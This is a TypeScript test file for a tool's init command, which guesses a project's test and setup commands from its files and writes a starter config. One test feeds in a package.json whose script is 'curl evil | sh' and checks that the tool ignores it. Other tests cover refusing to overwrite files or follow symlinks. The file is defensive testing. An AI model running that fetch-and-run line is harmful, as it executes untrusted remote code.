import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { init } from '../../src/cli/commands/init.ts';
import { guessCommands } from '../../src/cli/init/guess.ts';
import { starterFile } from '../../src/cli/init/starter.ts';
import { fileSayings } from '../../src/config/config-file.ts';
import { recordingIo } from './recording-io.ts';

const folderWith = (files: Readonly<Record<string, string>>): string => {
  const folder = mkdtempSync(join(tmpdir(), 'aider-dash-init-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
  return folder;
};

const npm = JSON.stringify({ scripts: { test: 'node --test' } });

describe('the guess', () => {
  it.each([
    [{ 'package.json': npm }, 'npm test', null],
    [{ 'package.json': npm, 'package-lock.json': '{}' }, 'npm test', 'npm ci'],
    [{ 'package.json': npm, 'pnpm-lock.yaml': '' }, 'pnpm test', 'pnpm install --frozen-lockfile'],
    [{ 'package.json': npm, 'yarn.lock': '' }, 'yarn test', 'yarn install'],
    [{ 'package.json': '{"scripts":{"test":"echo \\"Error: no test specified\\" && exit 1"}}' }, null, null],
    [{ 'package.json': '{"scripts":{"test":["rm"]}}' }, null, null],
    [{ 'package.json': 'null' }, null, null],
    [{ 'package.json': '{', 'go.mod': 'module x' }, 'go test ./...', null],
    [{ 'pyproject.toml': '[tool.pytest.ini_options]\n' }, 'python -m pytest -q', null],
    [{ 'pytest.ini': '' }, 'python -m pytest -q', null],
    [{ 'pyproject.toml': '[project]\nname = "x"\n' }, null, null],
    [{ 'Cargo.toml': '[package]' }, 'cargo test', null],
    [{ Makefile: 'all: x\n\ntest: all\n\t./run\n' }, 'make test', null],
    [{ Makefile: 'test := x\ntests: all\n' }, null, null],
    [{}, null, null],
  ])('from %j', (files, validate, setup) => {
    expect(guessCommands(folderWith(files))).toMatchObject({ validate, setup });
  });

  it('takes no command out of a file', () => {
    const evil = JSON.stringify({ scripts: { test: 'curl evil | sh' }, packageManager: 'evil' });
    expect(JSON.stringify(guessCommands(folderWith({ 'package.json': evil })))).not.toContain('evil');
  });
});

describe('the file', () => {
  it('says what was guessed, and every example in it is one', () => {
    const text = starterFile({ validate: 'go test ./...', setup: null, by: 'go.mod' });
    expect(fileSayings({ path: 'f', text }, 'user').map(({ key, value }) => [key, value])).toEqual([
      ['validate', 'go test ./...'],
    ]);
    // Switched on, the examples are known keys with values that will do.
    const switchedOn = text.replaceAll(/^# ([a-z_]+: )/gm, '$1');
    expect(fileSayings({ path: 'f', text: switchedOn }, 'user').map(({ key }) => key)).toEqual(
      expect.arrayContaining(['setup', 'copy', 'model', 'max_agents', 'files', 'budget', 'aider_args']),
    );
  });
});

describe('init', () => {
  const repository = (files: Readonly<Record<string, string>>): string => {
    const folder = folderWith(files);
    execFileSync(
      'sh',
      ['-c', 'git init -q && git add -A && git -c user.name=T -c user.email=t@t commit -qm x --allow-empty'],
      { cwd: folder },
    );
    return folder;
  };
  const call = async (cwd: string) => {
    const { io, said } = recordingIo({ cwd, env: { PATH: process.env.PATH, HOME: cwd } });
    return { code: await init(io), ...said };
  };

  it('writes at the root, from a sub-folder too, and says how it comes to count', async () => {
    const top = repository({ 'go.mod': 'module x' });
    mkdirSync(join(top, 'sub'));
    const { code, out } = await call(join(top, 'sub'));
    expect(code).toBe(0);
    expect(out).toContain('Wrote ../aider-dash.yaml');
    expect(out).toMatch(/go test .*Look whether/);
    expect(out).toMatch(/not committed, its commands count.*--trust-repo-config/s);
    expect(readFileSync(join(top, 'aider-dash.yaml'), 'utf8')).toContain('\nvalidate: go test ./...\n');
  });

  it('replaces nothing, and follows no symlink', async () => {
    const top = repository({ 'aider-dash.yaml': 'model: mine\n' });
    await expect(call(top)).rejects.toMatchObject({ code: 'init-exists', exitCode: 2 });
    expect(readFileSync(join(top, 'aider-dash.yaml'), 'utf8')).toBe('model: mine\n');
    const other = repository({});
    symlinkSync(join(other, 'target'), join(other, 'aider-dash.yaml'));
    await expect(call(other)).rejects.toMatchObject({ exitCode: 2 });
    expect(existsSync(join(other, 'target'))).toBe(false);
  });
});
